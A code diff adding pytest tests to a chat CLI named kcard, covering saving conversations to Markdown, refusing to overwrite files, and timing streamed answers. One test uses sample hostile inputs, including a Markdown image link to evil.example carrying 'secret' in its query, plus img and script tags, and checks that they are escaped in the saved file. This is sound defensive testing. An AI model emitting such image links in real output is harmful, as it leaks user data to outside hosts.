@@ -11,6 +11,8 @@ from typing import Any
 import pytest
 
 import kcard
+from kcard.cli.chat import ChatTurn, as_markdown
+from kcard.types import Answer, Citation, Decision, Passage, Source
 from tests.command import Done, Kcard
 from tests.openai_script import ScriptedServer
 from tests.terminal import Terminal
@@ -157,6 +159,58 @@ def test_the_llm_is_switched_and_one_that_can_not_be_used_changes_nothing(
     assert "kcard: this computer has no LLM 'nobody'" in done.err
     assert "\nWilliam Lassell\n" in done.out
     assert len(server.requests) == 1
+
+
+def test_a_conversation_is_saved_as_markdown_and_no_other_file_is_overwritten(
+    piped: Callable[..., Done], tmp_path: Path
+) -> None:
+    (tmp_path / "mine.md").write_text("mine", encoding="utf-8")
+    target = tmp_path / "chat.md"
+    lines = [f"/save {target}", "Who discovered Triton?", "/save", f"/save {tmp_path / 'mine.md'}",
+             f"/save {tmp_path / 'no' / 'folder.md'}", f"/save {target}", "Who found Nereid?",
+             f"/save {target}"]  # fmt: skip
+    done = piped("chat", lines="\n".join(lines))
+    assert [line for line in done.err.splitlines() if line.startswith("kcard: ")] == [
+        "kcard: there is no answer yet: ask a question first",
+        "kcard: name a file: /save chat.md",
+        f"kcard: {tmp_path / 'mine.md'} exists: name another file",
+        f"kcard: {tmp_path / 'no' / 'folder.md'} can't be written: No such file or directory",
+    ]
+    assert f"2 answers in {target}" in done.out
+    text = target.read_text(encoding="utf-8")
+    assert "## Who discovered Triton?\n\nWilliam Lassell\n\n- " in text
+    assert "neptune.txt:1" in text
+    assert "LLM: embedded*" in text
+    assert (tmp_path / "mine.md").read_text(encoding="utf-8") == "mine"
+
+
+def test_a_saved_conversation_loads_no_picture_and_shows_what_others_wrote_as_text() -> None:
+    text = "![x](http://evil.example/?q=secret) <img src=x> # Heading"
+    passage = Passage("evil", text, kept=True, source=Source(text, "a_b.md", 1))
+    answer = Answer(
+        "Who?",
+        "See ![x](http://evil.example) and <script>1 < 2</script>\n- a list",
+        "top-down",
+        Decision("always", 0.0, fired=True),
+        passages=(passage,),
+        citations=(Citation("See", 0, 0.9, text, 1),),
+    )
+    saved = as_markdown([ChatTurn("<b>Who?</b>", answer, "local:x")])
+    assert "\n## \\<b\\>Who?\\</b\\>\n\nAsked as: Who?\n" in saved
+    assert "See !\\[" not in saved
+    assert "See \\![x](http://evil.example) and \\<script>1 < 2\\</script>\n- a list" in saved
+    assert '- "\\!\\[x\\](http://evil.example/?q=secret) \\<img src=x\\> \\# Heading"' in saved
+    assert "a\\_b.md:1" in saved
+
+
+def test_the_time_to_the_first_word_of_a_streamed_answer_is_shown(piped: Callable[..., Done]) -> None:
+    server = ScriptedServer([{"pieces": ["William ", "Lassell."], "usage": [20, 4]}]).start()
+    done = piped(
+        "chat", "--llm", "openai:m", "--llm-url", server.url, "--mode", "direct", lines="Who found it?"
+    )
+    server.kill()
+    assert done.out.startswith("William Lassell.\n")
+    assert "first word after 0." in done.err
 
 
 def test_after_an_answer_was_stopped_the_chat_goes_on(home: Path) -> None:
